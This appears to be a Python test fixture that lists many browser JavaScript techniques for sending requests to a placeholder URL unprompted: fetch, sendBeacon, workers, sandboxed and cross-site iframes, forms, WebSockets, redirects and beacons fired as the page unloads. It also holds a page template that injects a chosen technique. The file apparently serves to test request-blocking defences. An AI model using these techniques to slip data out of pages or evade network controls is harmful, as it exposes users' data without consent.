"""Ways in which a page sends something to `U` by itself, for tests."""

from urllib.parse import unquote

INNER = (
    "fetch('{U}', {{method: 'POST', mode: 'no-cors', body: 'x'}}); navigator.sendBeacon('{U}', 'x'); "
    "const s = new XMLHttpRequest(); s.open('POST', '{U}'); s.send('x');"
)
WAYS = {
    "fetch": "fetch(U, {method: 'POST', mode: 'no-cors', body: 'x'})",
    "put": "fetch(U, {method: 'PUT', body: 'x'}).catch(() => 0)",
    "delete": "fetch(U, {method: 'DELETE'}).catch(() => 0)",
    "own method": "fetch(U, {method: 'BREW'}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', U); x.send('x')",
    "beacon": "navigator.sendBeacon(U, 'x')",
    "keepalive": "fetch(U, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
    "later": "window.fetchLater && fetchLater(U, {method: 'POST', body: 'x', activateAfter: 50})",
    "ping": "const a = add('a', {href: '#x', ping: U}); a.click()",
    "form": "add('iframe', {name: 'to'}); add('form', {action: U, method: 'POST', target: 'to'}).submit()",
    "form in a window": "add('form', {action: U, method: 'POST', target: '_blank'}).submit()",
    "worker": "new Worker(blob(`fetch('${U}', {method: 'POST', mode: 'no-cors', body: 'x'})`))",
    "worker in a worker": """new Worker(blob(`new Worker(URL.createObjectURL(new Blob(
        ["fetch('${U}', {method: 'POST', mode: 'no-cors', body: 'x'})"])))`))""",
    "shared worker": "new SharedWorker(blob(`fetch('${U}', {method: 'POST', mode: 'no-cors', body: 'x'})`))",
    "service worker": "navigator.serviceWorker.register('/worker.js?' + encodeURIComponent(U))",
    "frame": "add('iframe', {src: '/sends?' + encodeURIComponent(U)})",
    "frame of another site": "add('iframe', {src: OTHER + '/sends?' + encodeURIComponent(U)})",
    "sandboxed": "add('iframe', {sandbox: 'allow-scripts', srcdoc: `<script>${inner(U)}</script>`})",
    "sandboxed of another site": """add('iframe', {sandbox: 'allow-scripts',
        src: OTHER + '/sends?' + encodeURIComponent(U)})""",
    "empty frame": """const f = add('iframe', {}).contentWindow;
        f.fetch(U, {method: 'POST', mode: 'no-cors', body: 'x'}); f.navigator.sendBeacon(U, 'x')""",
    "frame of data": "add('iframe', {src: 'data:text/html,<script>' + inner(U) + '</script>'})",
    "frame of a blob": "add('iframe', {src: blob(`<script>${inner(U)}</script>`, 'text/html')})",
    "window": "open(OTHER + '/sends?' + encodeURIComponent(U))",
    "web socket": "new WebSocket(U.replace('http', 'ws'))",
    "web socket of a frame": "new (add('iframe', {}).contentWindow.WebSocket)(U.replace('http', 'ws'))",
}
LATE = {
    "redirect": "fetch('/307?' + encodeURIComponent(U), {method: 'POST', mode: 'no-cors', body: 'x'})",
    "redirect of a form": """add('iframe', {name: 'to'}); add('form', {method: 'POST', target: 'to',
        action: '/307?' + encodeURIComponent(U)}).submit()""",
    "redirect of a worker": """new Worker(blob(`fetch('${new URL('/307?' + encodeURIComponent(U), location)}',
        {method: 'POST', mode: 'no-cors', body: 'x'})`))""",
    "redirect of a window": "add('form', {action: '/307?' + encodeURIComponent(U), method: 'POST',"
    " target: '_blank'}).submit()",
    "as it is left": """addEventListener('pagehide', () => { navigator.sendBeacon(U, 'x');
        fetch(U, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}) });
        setTimeout(() => { location.href = '/' }, 50)""",
    "of a window that is closed": """const w = open(''); w.navigator.sendBeacon(U, 'x');
        w.fetch(U, {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}); w.close()""",
}
"""Ways that begin with what is allowed, or end when nobody is there any more. What is sent to `a.test` is."""
SOCKET_OF_A_WORKER = "new Worker(blob(`new WebSocket('${U}'.replace('http', 'ws'))`))"
EACH = {**WAYS, **LATE, "socket of a worker": SOCKET_OF_A_WORKER}
PAGE = """<title>Page</title><body><p>Text</p>
<form action="/order?n=1" method="POST"><input name="what"><button>
Order</button></form><img src="HOME/picture"><script>
const OTHER = 'HOME';
const add = (tag, with_) => { const made = document.createElement(tag); Object.assign(made, with_);
    document.body.append(made); return made };
const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const inner = (U) => `fetch('${U}', {method: 'POST', mode: 'no-cors', body: 'x'});
    navigator.sendBeacon('${U}', 'x')`;
</script></body>"""


def page(other: str, tries: str) -> bytes:
    """The page, which tries something (quoted JavaScript); `other` is the site that it knows besides."""
    code = unquote(tries).replace("</", "<\\/")
    return f"{PAGE.replace('HOME', other)}<script>{code}</script>".encode()
